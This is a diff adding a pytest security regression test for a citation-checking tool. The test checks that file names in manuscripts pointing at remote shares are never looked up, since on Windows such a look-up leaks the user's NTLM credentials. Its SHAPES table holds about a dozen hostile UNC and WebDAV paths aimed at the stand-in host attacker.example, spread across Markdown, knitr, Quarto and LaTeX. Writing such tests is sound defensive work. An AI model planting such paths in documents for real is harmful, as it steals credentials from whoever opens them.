@@ -1,0 +1,156 @@
+"""Red team rt38s: a manuscript's name for a file on another machine is never looked up.
+
+Without ``--confine`` the command line follows the names a manuscript gives wherever
+they point -- the author's own files. A name that opens with two separators is no
+file of the author's disk: on Windows ``//host/share/x`` and ``\\\\host\\share\\x`` are
+a share, ``\\\\host@SSL\\x`` WebDAV over HTTPS and ``\\\\?\\UNC\\host\\x`` the same
+share spelt for the kernel. Asking whether such a name is a file makes Windows connect
+to that host and answer its login challenge with the user's NTLM credentials: an
+editor checking a submission with ``citeaudit check paper.md`` sent them to a server
+the submission chose, before "not found" came back (the classic UNC leak of documents
+that name remote templates). ``--confine`` refused these names as absolute; the plain
+command line looked every one up.
+
+This machine is not Windows, so the test watches the look-ups themselves: the standard
+library's ``os`` functions a look-up goes through are wrapped to note their names (as
+tests/security/test_rt34f_lookups_outside.py does), and no name naming the stand-in
+host may reach them. POSIX reads ``//host`` as ``/host``: before the fix each of these
+names was ``stat``-ed there, and read if it existed. The finding names the file and
+says it is not looked up, whatever answers there.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.in_process_cli import run_cli
+
+HOST = "attacker.example"
+LATEX = "\\documentclass{article}\n\\begin{document}\nAs shown \\cite{a}.\n%s\n\\end{document}\n"
+REFS = "@article{a, author={Okafor, N.}, title={A}, journal={J}, year={2018}}\n"
+# (file name, its text, the file beside it): each names the share one way a reader reads
+SHAPES: dict[str, tuple[str, str]] = {
+    "front matter, slashes": (
+        "paper.md",
+        f"---\nbibliography: //{HOST}/s/refs.bib\n---\nAs shown [@a].\n",
+    ),
+    "front matter, backslashes": (
+        "paper.md",
+        f"---\nbibliography: '\\\\{HOST}\\s\\refs.bib'\n---\nAs shown [@a].\n",
+    ),
+    "front matter, WebDAV": (
+        "paper.md",
+        f"---\nbibliography: '\\\\{HOST}@SSL\\DavWWWRoot\\refs.bib'\n---\nAs shown [@a].\n",
+    ),
+    "front matter, kernel spelling": (
+        "paper.md",
+        f"---\nbibliography: '\\\\?\\UNC\\{HOST}\\s\\refs.bib'\n---\nAs shown [@a].\n",
+    ),
+    "front matter, object manager spelling": (
+        "paper.md",
+        f"---\nbibliography: '\\??\\UNC\\{HOST}\\s\\refs.bib'\n---\nAs shown [@a].\n",
+    ),
+    "front matter, list item": (
+        "paper.md",
+        f"---\nbibliography:\n  - refs.bib\n  - //{HOST}/s/more.bib\n---\nAs shown [@a].\n",
+    ),
+    "knitr here::here": (
+        "paper.Rmd",
+        f"---\nbibliography: \"`r here::here('//{HOST}/s/refs.bib')`\"\n---\nAs shown [@a].\n",
+    ),
+    "knitr child": (
+        "paper.Rmd",
+        f"As shown [@a].\n\n```{{r child='//{HOST}/s/c.Rmd'}}\n```\n",
+    ),
+    "quarto include": (
+        "paper.qmd",
+        f"As shown [@a].\n\n{{{{< include //{HOST}/s/c.qmd >}}}}\n",
+    ),
+    "latex input": ("main.tex", LATEX % f"\\input{{//{HOST}/s/chapter}}\n\\bibliography{{refs}}"),
+    "latex include": ("main.tex", LATEX % f"\\include{{//{HOST}/s/ch}}\n\\bibliography{{refs}}"),
+    "latex bibliography": ("main.tex", LATEX % f"\\bibliography{{refs,//{HOST}/s/refs}}"),
+    "biblatex resource": (
+        "main.tex",
+        LATEX.replace(
+            "\\begin{document}",
+            f"\\addbibresource{{//{HOST}/s/refs.bib}}\n"
+            "\\addbibresource{refs.bib}\n\\begin{document}",
+        )
+        % "\\printbibliography",
+    ),
+}
+
+
+@pytest.fixture
+def lookups(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
+    """The names every look-up, listing and open of the run was asked for."""
+    asked: list[str] = []
+
+    def noting(original: Callable[..., Any]) -> Callable[..., Any]:
+        def wrapper(path: Any, *args: Any, **kwargs: Any) -> Any:
+            if isinstance(path, str | bytes | os.PathLike):
+                asked.append(os.fsdecode(os.fspath(path)))
+            return original(path, *args, **kwargs)
+
+        return wrapper
+
+    for name in ("stat", "lstat", "open", "scandir", "listdir", "access", "readlink"):
+        monkeypatch.setattr(os, name, noting(getattr(os, name)))
+    yield asked
+
+
+@pytest.mark.parametrize("shape", SHAPES)
+def test_a_share_a_manuscript_names_is_not_looked_up(
+    shape: str, tmp_path: Path, lookups: list[str]
+) -> None:
+    name, text = SHAPES[shape]
+    (tmp_path / name).write_text(text, encoding="utf-8")
+    (tmp_path / "refs.bib").write_text(REFS, encoding="utf-8")
+    ran = run_cli({}, "check", "--offline", "--format", "json", name, cwd=tmp_path)
+    assert ran.returncode in (0, 1, 2), ran.stderr
+    assert [n for n in lookups if HOST in n] == []
+    assert any(n.endswith("refs.bib") or n.endswith(name) for n in lookups)  # watched
+    shown = ran.stdout + ran.stderr
+    if ran.stdout.strip():
+        messages = [f["message"] for f in json.loads(ran.stdout)["findings"]]
+        shown = "\n".join(messages) + ran.stderr
+    assert "names a file on another machine" in shown, shown
+
+
+def test_the_share_is_refused_alike_whether_anything_answers_there(tmp_path: Path) -> None:
+    """POSIX reads ``//host/s/x`` as ``/host/s/x``: a name that exists there is not read
+    either -- the stand-in is a folder of the test's (``//<tmp>/...``), holding a .bib."""
+    there = tmp_path / "share"
+    there.mkdir()
+    (there / "refs.bib").write_text(REFS.replace("{a,", "{SHARED,"), encoding="utf-8")
+    folder = tmp_path / "paper"
+    folder.mkdir()
+    (folder / "refs.bib").write_text(REFS, encoding="utf-8")
+    (folder / "paper.md").write_text(
+        f"---\nbibliography: [refs.bib, '/{there}/refs.bib']\n---\nAs shown [@a].\n",
+        encoding="utf-8",
+    )
+    ran = run_cli({}, "check", "--offline", "--format", "json", "paper.md", cwd=folder)
+    report = json.loads(ran.stdout)
+    assert [r["key"] for r in report["references"]] == ["a"]
+    assert "SHARED" not in ran.stdout
+    assert any("names a file on another machine" in f["message"] for f in report["findings"])
+
+
+def test_a_name_beside_the_manuscript_is_still_read(tmp_path: Path) -> None:
+    """The control: the author's own names (relative, absolute on this disk) are read."""
+    (tmp_path / "refs.bib").write_text(REFS, encoding="utf-8")
+    (tmp_path / "paper.md").write_text(
+        f"---\nbibliography: [refs.bib, {tmp_path}/refs.bib]\n---\nAs shown [@a].\n",
+        encoding="utf-8",
+    )
+    ran = run_cli({}, "check", "--offline", "--format", "json", "paper.md", cwd=tmp_path)
+    report = json.loads(ran.stdout)
+    assert [r["key"] for r in report["references"]] == ["a"]
+    assert not any("another machine" in f["message"] for f in report["findings"])
